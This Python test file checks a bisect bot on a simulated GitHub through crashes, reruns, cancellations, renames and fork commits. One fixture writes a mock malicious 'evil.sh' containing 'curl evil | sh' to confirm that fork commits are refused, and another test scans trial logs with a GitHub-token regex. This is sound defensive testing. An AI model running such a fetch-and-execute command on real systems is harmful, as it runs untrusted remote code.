"""Bisect while things go wrong: killed processes, runners that are silent or say it twice."""

from __future__ import annotations

import json
import re
from collections import Counter
from pathlib import Path

import pytest

from fakegithub.actions.runner import WorkflowRunner
from fakegithub.git.bare import Signature
from fakegithub.server import DemoGitHub
from tests.chaos.lane import API_TOKEN, Lane
from tests.playbooks.bisect.bisecting import (
    CONFIG,
    GOOD_TRIAL,
    LATENCY,
    UNHURRIED_TRIAL,
    approved,
    bare_shop,
    committed,
    dispatched,
    fixes,
    hidden_refs,
    history,
    measured,
    running,
)
from tests.shop import Shop


@pytest.mark.thorough
@pytest.mark.parametrize(
    ("what", "trial"),
    [
        ("check smoke", UNHURRIED_TRIAL),
        ("numeric latency:higher", f"{LATENCY}          sleep 1.5\n"),
    ],
    ids=["a failure", "a number"],
)
async def test_killed_with_trials_in_flight_it_goes_on_and_dispatches_none_twice(
    github: DemoGitHub, tmp_path: Path, what: str, trial: str
) -> None:
    lane = Lane(github, tmp_path)
    repository = lane.repository()
    async with lane.person(repository) as alice:
        shop = bare_shop(github, repository, alice)
        past = await history(shop, 30, 17, trial=trial)
        await past.says_ci_on_the_end("failure")
        await lane.start()
        await lane.approved(repository, CONFIG)
        issue = await alice.open_issue("main is red")
        await alice.comment(issue, f"/bisect {past.commits[0]}..main {what}")

        async def four() -> bool:
            return len(await running(shop)) >= 4

        await shop.eventually(four)
        await lane.life.kill()
        await lane.start()

        async def verified() -> bool:
            return bool(hidden_refs(shop)) and bool(await running(shop))

        await shop.eventually(verified)
        await lane.life.kill()
        await lane.start()
        [fix] = await shop.eventually(lambda: fixes(shop))
        assert fix["title"] == f'Revert {past.commits[17][:7]} "Change 17"'
        ids = Counter(run.cause.inputs["trial_id"] for run in dispatched(shop))
        assert max(ids.values()) == 1
        assert hidden_refs(shop) == []
        assert len(await alice.issues(labels="incident")) == 1
    await lane.close()


@pytest.mark.thorough
async def test_a_run_that_is_run_again_by_somebody_counts_once(shop: Shop) -> None:
    past = await history(shop, 12, 7, trial=GOOD_TRIAL)
    await past.says_ci_on_the_end("failure")
    issue, _ = await past.bisected()

    async def first() -> bool:
        return any(run.status == "completed" for run in dispatched(shop))

    await shop.eventually(first)
    runner: WorkflowRunner = shop.github.runner
    done = next(run for run in dispatched(shop) if run.status == "completed")
    runner.rerun(done, [*done.jobs])
    [fix] = await shop.eventually(lambda: fixes(shop))
    assert fix["title"] == f'Revert {past.commits[7][:7]} "Change 7"'
    assert issue


@pytest.mark.thorough
async def test_a_trial_that_was_cancelled_says_nothing_and_is_tried_again(shop: Shop) -> None:
    past = await history(shop, 10, 7, trial=UNHURRIED_TRIAL)
    await past.says_ci_on_the_end("failure")
    await past.bisected()
    [first, *_] = await shop.eventually(lambda: running(shop))
    shop.github.runner.cancel(first)
    [fix] = await shop.eventually(lambda: fixes(shop))
    assert fix["title"] == f'Revert {past.commits[7][:7]} "Change 7"'
    sha = first.cause.inputs["sha"]
    assert sum(run.cause.inputs["sha"] == sha for run in dispatched(shop)) >= 2


@pytest.mark.thorough
async def test_a_workflow_without_the_inputs_is_said_and_can_be_mended(shop: Shop) -> None:
    past = await history(shop, 8, 5)
    await past.says_ci_on_the_end("failure")
    where = ".github/workflows/playbooks-trial.yml"
    whole = await shop.alice.file(where) or ""
    shop.verdicts = {"smoke": "failure"}
    await shop.alice.push("main", {where: whole.replace("trial_id: {", "other: {")}, "Oops")
    issue, _ = await past.bisected()

    async def refused() -> bool:
        return any("could not be dispatched" in said for said in await shop.from_bot(issue))

    await shop.eventually(refused)
    assert dispatched(shop) == []
    await shop.alice.push("main", {where: whole}, "Mend")
    assert await (await shop.says(issue, "/retry")).reaction() == "+1"
    [fix] = await shop.eventually(lambda: fixes(shop))
    assert fix["title"] == f'Revert {past.commits[5][:7]} "Change 5"'


@pytest.mark.thorough
@pytest.mark.parametrize("what", ["the workflow", "the branch"])
async def test_what_was_renamed_meanwhile_is_tried_by_its_new_name_after_a_retry(
    shop: Shop, what: str
) -> None:
    past = await history(shop, 8, 5, trial=UNHURRIED_TRIAL)
    await past.says_ci_on_the_end("failure")
    issue, _ = await past.bisected()
    await shop.eventually(lambda: running(shop))
    shop.verdicts = {"smoke": "failure"}
    if what == "the branch":
        await shop.alice.post("branches/main/rename", new_name="trunk")
    else:
        config, old = CONFIG.replace("playbooks-trial", "try"), "playbooks-trial.yml"
        whole = await shop.alice.file(f".github/workflows/{old}")
        await approved(shop, config)
        files = {
            f".github/workflows/{old}": None,
            ".github/workflows/try.yml": whole,
            ".github/playbooks.yml": config,
        }
        await shop.alice.push("main", files, "Rename")
    said = await shop.standing(issue, "Comment `/retry`")
    assert "/repos/" not in said
    assert await (await shop.says(issue, "/retry")).reaction() == "+1"
    [fix] = await shop.eventually(lambda: fixes(shop))
    assert fix["title"] == f'Revert {past.commits[5][:7]} "Change 5"'
    assert fix["base"]["ref"] == ("trunk" if what == "the branch" else "main")


@pytest.mark.thorough
async def test_a_workflow_that_cancels_its_own_runs_is_told_apart(shop: Shop) -> None:
    past = await history(shop, 8, 5, trial="sleep 600")
    await past.says_ci_on_the_end("failure")
    issue, _ = await past.bisected()

    async def given_up() -> bool:
        for run in await running(shop):
            shop.github.runner.cancel(run)
        return any("Comment `/retry`" in said for said in await shop.from_bot(issue))

    await shop.eventually(given_up)
    assert "`concurrency`" in await shop.standing(issue, "trials were cancelled, and not by me")


@pytest.mark.thorough
async def test_a_word_said_while_the_suspect_is_checked_counts(shop: Shop) -> None:
    past = await history(shop, 8, 5, trial=UNHURRIED_TRIAL)
    await past.says_ci_on_the_end("failure")
    issue, _ = await past.bisected()

    async def checked() -> bool:
        return bool(hidden_refs(shop)) and bool(await running(shop))

    await shop.eventually(checked)
    assert await (await shop.says(issue, f"/good {past.commits[5]}")).reaction() == "+1"
    [fix] = await shop.eventually(lambda: fixes(shop))
    assert hidden_refs(shop) == []
    # Every run contradicts her: her word is weighed, and they outweigh it.
    assert fix["title"] == f'Revert {past.commits[5][:7]} "Change 5"'
    log = json.loads(await committed(shop, fix, "bisect"))["log"]
    assert [line for line in log if '"by":"alice"' in line]


@pytest.mark.thorough
async def test_a_culprit_whose_revert_may_not_be_made_is_named(shop: Shop) -> None:
    workflow: dict[str, str | None] = {".github/workflows/other.yml": "on: push\njobs: {}\n"}
    past = await history(shop, 8, 5, more={5: workflow})
    await past.says_ci_on_the_end("failure")
    issue, _ = await past.bisected()
    said = await shop.standing(issue, "lacks workflows=write")
    assert f"{past.commits[5][:12]} (Change 5) broke smoke, 9" in said
    assert hidden_refs(shop) == []


@pytest.mark.thorough
async def test_trials_that_fail_on_main_start_no_incident_of_their_own(shop: Shop) -> None:
    past = await history(shop, 12, 7)
    await past.says_ci_on_the_end("failure")
    await past.bisected()
    await shop.eventually(lambda: fixes(shop))
    on_main = await shop.alice.get(f"commits/{past.commits[-1]}/check-runs", per_page="100")
    assert any(
        run["conclusion"] == "failure" and run["app"]["slug"] == "github-actions"
        for run in on_main["check_runs"]
    )
    assert len(await shop.incidents()) == 1
    failed = sum(run["conclusion"] == "failure" for run in on_main["check_runs"])
    measured(
        f"{failed} trials failed on main: {len(await shop.incidents())} incident, the bisect's own"
    )


async def test_a_commit_of_a_fork_is_refused_though_github_resolves_it(shop: Shop) -> None:
    past = await history(shop, 6, 3)
    await past.says_ci_on_the_end("failure")
    git = shop.repository.git
    tree = git.write_tree(None, {"evil.sh": ("100755", git.write("blob", b"curl evil | sh"))})
    who = Signature("Mallory", "mallory@example.com", shop.github.world.now())
    # A fork shares the network's objects: its commits have an address in the parent too.
    forked = git.write_commit(tree, [past.commits[-1]], "Innocent\n", who)
    assert (await shop.alice.get(f"commits/{forked}"))["sha"] == forked
    number, answer = await past.bisected(f"/bisect {past.commits[0]}..{forked} check smoke")
    assert await answer.reaction() == "confused"
    [refusal] = await shop.from_bot(number)
    assert "commits of forks cannot be named" in refusal
    assert dispatched(shop) == []
    assert await shop.incidents() == []
    measured(f"a fork's {forked[:9]}: refused, {len(dispatched(shop))} runs dispatched")


@pytest.mark.thorough
async def test_a_trial_sees_no_secret_of_the_bot(shop: Shop) -> None:
    past = await history(shop, 3, 2, trial="env; test ! -e bug")
    await past.says_ci_on_the_end("failure")
    await past.bisected()
    await shop.eventually(lambda: fixes(shop))
    logs = "".join(job.log for run in dispatched(shop) for job in run.jobs.values())
    assert "GITHUB_SHA" in logs
    assert "PRIVATE KEY" not in logs
    assert API_TOKEN not in logs
    assert not re.search(r"gh[ps]_[A-Za-z0-9]{20}", logs)
    measured(f"{len(dispatched(shop))} trials, {len(logs)} bytes of their environments: no secret")


@pytest.mark.thorough
async def test_two_fixes_at_once_can_both_be_merged(shop: Shop) -> None:
    past = await history(shop, 40, 13, trial=None, more={27: {"other-bug": "x\n"}})
    await past.says_ci(13, twice=True)
    await past.says_ci(27, name="lint", twice=True)
    shop.verdicts = {"smoke": "success", "lint": "success"}
    _, first = await past.bisected()
    [one] = await shop.eventually(lambda: fixes(shop))
    _, second = await past.bisected(f"/bisect {past.commits[0]}..{past.commits[-1]} check lint")

    async def two() -> bool:
        return len(await fixes(shop)) == 2

    await shop.eventually(two)
    other = next(each for each in await fixes(shop) if each["number"] != one["number"])
    for fix, answer in ((one, first), (other, second)):
        number = fix["number"]

        async def mergeable(number: int = number) -> bool:
            return bool((await shop.alice.pull_request(number))["mergeable"])

        await shop.eventually(mergeable)
        await shop.alice.merge(number)
        assert await answer.reaction() == "+1"
    assert await shop.alice.file("bug") is None
    assert await shop.alice.file("other-bug") is None
    spec = await shop.alice.file("self/spec_report.json") or ""
    assert await shop.incident_of(other) in spec
